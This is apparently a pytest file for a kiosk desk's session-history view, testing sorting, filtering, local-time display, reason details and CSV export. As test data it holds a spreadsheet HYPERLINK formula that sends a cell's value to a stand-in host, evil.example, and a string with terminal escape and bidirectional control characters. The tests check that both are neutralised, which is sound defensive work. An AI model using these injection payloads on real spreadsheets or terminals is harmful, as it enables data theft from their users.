"""The desk's history as the employee uses it: sessions sorted, found by reference, narrowed by
outcome and days, shown in local time, the full reasons on selection, and a CSV of exactly the
rows shown (neutralised for spreadsheets)."""

from __future__ import annotations

import contextlib
import csv
import os
import sqlite3
import stat
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from PySide6.QtCore import QDate, QPoint, Qt
from pytestqt.qtbot import QtBot

from kiosk.core import state as machine
from kiosk.core.journal import COLUMNS, Journal
from kiosk.core.journal_writer import JournalWriter
from kiosk.core.models import SessionStatus
from kiosk.core.qr import encode
from kiosk.core.state import ActiveSession, KioskState, Phase, SessionOutcome
from kiosk.desk.history import HistoryView
from kiosk.desk.history_model import OUTCOME, REFERENCE, STARTED

URL = "https://cloud.ooto-ai.com/flow/tok-SECRET-0123456789"
SESSION = ActiveSession("sid", "tok", URL, "cloud.ooto-ai.com", encode(URL), ("liveness", "search"))
HOUR = 3600.0
T0 = 1_800_000_000.0  # 2027-01-15T08:00:00Z
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def done(similarity: float, liveness: float) -> KioskState:
    status = SessionStatus.from_wire(
        {
            "status": "DONE",
            "scopes": ["liveness", "search"],
            "result": {
                "liveness": {"fine": liveness >= 0.5, "score": liveness},
                "search": {"similarity": similarity, "templateId": "tpl-7"},
            },
        }
    )
    session = replace(SESSION, session_id="x")
    return machine.status_received(KioskState(phase=Phase.QR, session=session), status)


# (session id, reference, hours after T0, how it ended)
ROWS: list[tuple[str, str | None, float, KioskState | SessionOutcome | None]] = [
    ("sid-01", "CUST-0042", 0, done(0.91, 0.97)),
    ("sid-02", "case-7", 1, done(0.40, 0.20)),  # two reasons
    ("sid-03", FORMULA, 2, SessionOutcome.WALKED_AWAY),
    ("sid-04", None, 3, done(0.88, 0.93)),  # a kiosk session: no reference
    ("sid-05", "Bravo-1", 26, SessionOutcome.CANCELED_AT_KIOSK),  # the next day
    ("sid-06", "alpha-9", 27, None),  # still running
]


@pytest.fixture
def local_zone() -> Iterator[None]:
    """The machine's clock in India (UTC+05:30: a half hour shows a real conversion)."""
    before = os.environ.get("TZ")
    os.environ["TZ"] = "Asia/Kolkata"
    time.tzset()
    yield
    if before is None:
        del os.environ["TZ"]
    else:
        os.environ["TZ"] = before
    time.tzset()


@pytest.fixture
def writer(tmp_path: Path) -> Iterator[JournalWriter]:
    path = tmp_path / "journal.sqlite3"
    with Journal(path, clock=lambda: T0) as journal:
        for sid, reference, hours, end in ROWS:
            at = T0 + hours * HOUR
            row = journal.started(replace(SESSION, session_id=sid), at=at, reference=reference)
            if isinstance(end, KioskState):
                journal.finished(row, end, at=at + 90)
            elif end is not None:
                journal.finished(row, KioskState(), end, at=at + 90)
    writer = JournalWriter(path, clock=lambda: T0 + 30 * HOUR)
    yield writer
    assert writer.close()


@pytest.fixture
def view(qtbot: QtBot, writer: JournalWriter, tmp_path: Path) -> Iterator[HistoryView]:
    target = tmp_path / "out" / "history.csv"
    shown = HistoryView(writer, save_path=lambda: str(target))
    qtbot.addWidget(shown)
    shown.resize(1200, 700)
    shown.show()
    qtbot.waitUntil(lambda: not shown.loading)
    yield shown
    shown.loader.stop_and_wait()


def column(view: HistoryView, index: int) -> list[str]:
    return [view.proxy.index(r, index).data() for r in range(view.proxy.rowCount())]


def sessions(view: HistoryView) -> list[str]:
    return [e.session_id for e in view.shown_entries()]


def settle(qtbot: QtBot, view: HistoryView) -> None:
    qtbot.waitUntil(lambda: not view.loading)


def test_the_newest_first_and_sorted_by_reference_and_outcome(
    qtbot: QtBot, view: HistoryView
) -> None:
    assert sessions(view) == ["sid-06", "sid-05", "sid-04", "sid-03", "sid-02", "sid-01"]
    assert view.count.text() == "6 sessions."
    header = view.table.horizontalHeader()
    qtbot.mouseClick(
        header.viewport(), Qt.MouseButton.LeftButton, pos=sections_centre(view, REFERENCE)
    )
    # Ignoring case ("=" sorts before letters); the kiosk's session (no reference) last.
    assert column(view, REFERENCE) == [
        FORMULA, "alpha-9", "Bravo-1", "case-7", "CUST-0042", ""
    ]  # fmt: skip
    view.table.sortByColumn(OUTCOME, Qt.SortOrder.AscendingOrder)
    assert column(view, OUTCOME) == [
        "Cancelled by staff", "In progress", "Not passed", "Passed", "Passed", "Walked away"
    ]  # fmt: skip
    view.table.sortByColumn(STARTED, Qt.SortOrder.AscendingOrder)
    assert sessions(view)[0] == "sid-01"


def sections_centre(view: HistoryView, index: int) -> QPoint:
    header = view.table.horizontalHeader()
    x = header.sectionViewportPosition(index) + header.sectionSize(index) // 2
    return QPoint(x, header.height() // 2)


def test_search_outcome_and_days_narrow_the_rows(
    qtbot: QtBot, local_zone: None, view: HistoryView
) -> None:
    with qtbot.waitSignal(view.loaded):
        qtbot.keyClicks(view.search, "CUST")  # one query once typing pauses
    assert sessions(view) == ["sid-01"]
    with qtbot.waitSignal(view.loaded):
        view.search.setText("sid-0")
    assert len(sessions(view)) == 6
    with qtbot.waitSignal(view.loaded):
        view.search.setText("%")  # a literal percent sign, which no reference holds
    assert sessions(view) == []
    with qtbot.waitSignal(view.loaded):
        view.search.clear()
    with qtbot.waitSignal(view.loaded):
        view.outcome.setCurrentIndex(view.outcome.findData("PASS"))
    assert sessions(view) == ["sid-04", "sid-01"]
    with qtbot.waitSignal(view.loaded):
        view.outcome.setCurrentIndex(0)
    # Days are the machine's days: 2027-01-16 in India holds the two latest sessions.
    with qtbot.waitSignal(view.loaded):
        view.first_day.setDate(QDate(2027, 1, 16))
        view.last_day.setDate(QDate(2027, 1, 16))
        view.dated.setChecked(True)
    assert sessions(view) == ["sid-06", "sid-05"]
    settle(qtbot, view)


def test_times_are_shown_in_local_time(qtbot: QtBot, local_zone: None, view: HistoryView) -> None:
    view.refresh()
    settle(qtbot, view)
    started = dict(zip(sessions(view), column(view, STARTED), strict=True))
    assert started["sid-01"] == "2027-01-15 13:30:00"  # 08:00 UTC
    view.table.selectRow(sessions(view).index("sid-01"))
    assert "Started: 2027-01-15 13:30:00 IST (UTC+0530)" in view.details.toPlainText()
    assert "Ended: 2027-01-15 13:31:30 IST (UTC+0530)" in view.details.toPlainText()


def test_the_full_reasons_of_the_selected_row(
    qtbot: QtBot, view: HistoryView, writer: JournalWriter
) -> None:
    assert view.details.toPlainText() == ""
    view.table.selectRow(sessions(view).index("sid-02"))
    text = view.details.toPlainText()
    assert "Reference: case-7" in text
    assert "Outcome: Not passed (DONE)" in text
    assert "Scores: liveness 0.20, deepfake –, face match 0.40" in text
    lines = text.splitlines()
    at = lines.index("Reasons:")
    assert len([line for line in lines[at + 1 :] if line.startswith("  • ")]) == 2
    assert any("0.40" in line and "0.75" in line for line in lines[at + 1 :])

    # A server's text (here written straight into the file) is shown, never obeyed.
    hostile = "\x1b]52;c;ZXZpbA==\x07 <b>bold</b> " + "long " * 80 + "\u202eend"
    with contextlib.closing(sqlite3.connect(writer.path)) as db:
        db.execute("UPDATE sessions SET reasons = ? WHERE session_id = 'sid-02'", (hostile,))
        db.commit()
    with qtbot.waitSignal(view.loaded):
        view.refresh()
    text = view.details.toPlainText()  # the selection stays on the same session
    assert "?]52;c;ZXZpbA==? <b>bold</b> long long" in text
    assert "?end" in text
    assert not any(ch in text for ch in "\x1b\x07\u202e")
    assert "long " * 79 in text  # the whole reason, not cut


def test_the_export_holds_the_rows_shown_neutralised(
    qtbot: QtBot, view: HistoryView, tmp_path: Path
) -> None:
    with qtbot.waitSignal(view.loaded):
        view.search.setText("HYPERLINK")
    assert sessions(view) == ["sid-03"]
    assert view.export() == 1
    target = tmp_path / "out" / "history.csv"
    with target.open(newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert tuple(table[0]) == COLUMNS
    assert len(table) == 2
    row = dict(zip(COLUMNS, table[1], strict=True))
    assert row["session_id"] == "sid-03"
    assert row["reference"] == "'" + FORMULA  # read as text, never run
    assert row["outcome"] == "WALKED_AWAY"
    if sys.platform != "win32":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "Exported 1 sessions" in view.count.text()

    # Sorted by reference, then exported: the file follows the table's order.
    with qtbot.waitSignal(view.loaded):
        view.search.setText("-")
    view.table.sortByColumn(REFERENCE, Qt.SortOrder.AscendingOrder)
    assert view.export() == 6
    with target.open(newline="", encoding="utf-8") as handle:
        references = [r[COLUMNS.index("reference")] for r in list(csv.reader(handle))[1:]]
    assert references == ["'" + FORMULA, "alpha-9", "Bravo-1", "case-7", "CUST-0042", ""]


def test_a_finished_session_appears_on_refresh(
    qtbot: QtBot, view: HistoryView, writer: JournalWriter
) -> None:
    start = writer.started(replace(SESSION, session_id="sid-new"), reference="NEW-1")
    assert writer.finished(start, done(0.95, 0.99)).wait(5)
    with qtbot.waitSignal(view.loaded):
        view.refresh()
    assert sessions(view)[0] == "sid-new"
    assert column(view, REFERENCE)[0] == "NEW-1"


def test_without_a_journal_or_with_a_broken_one_it_says_so(qtbot: QtBot, tmp_path: Path) -> None:
    empty = HistoryView(None)
    qtbot.addWidget(empty)
    qtbot.waitUntil(lambda: empty.count.text() != "")
    assert "not recorded" in empty.count.text()
    broken = tmp_path / "broken.sqlite3"
    broken.write_bytes(b"this is not a database" * 100)
    writer = JournalWriter(broken, open_journal=_never)
    try:
        view = HistoryView(writer)
        qtbot.addWidget(view)
        qtbot.waitUntil(lambda: "cannot be read" in view.count.text())
        assert str(broken) in view.count.text()
        assert view.model.rowCount() == 0
    finally:
        writer.close(timeout=0.1)


def _never() -> Journal:
    from kiosk.core.journal import JournalError

    raise JournalError("not opened in this test")


def test_day_range_is_local_midnight_to_midnight(local_zone: None) -> None:
    from kiosk.desk.history_format import day_range

    since, until = day_range(date(2027, 1, 16), date(2027, 1, 15))  # swapped: put in order
    assert since == T0 - 8 * HOUR - 5.5 * HOUR  # 2027-01-15 00:00 +05:30
    assert until - since == 2 * 24 * HOUR


def test_ctrl_c_copies_the_selected_sessions_ids(qtbot: QtBot, view: HistoryView) -> None:
    from PySide6.QtGui import QGuiApplication

    QGuiApplication.clipboard().clear()
    view.table.setFocus()
    view.table.selectRow(sessions(view).index("sid-01"))
    view.activateWindow()
    qtbot.waitUntil(view.table.hasFocus)
    qtbot.keyClick(view.table, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    expected = "reference: CUST-0042\nsession_id: sid-01\nsearch_template_id: tpl-7"
    qtbot.waitUntil(lambda: QGuiApplication.clipboard().text() == expected)
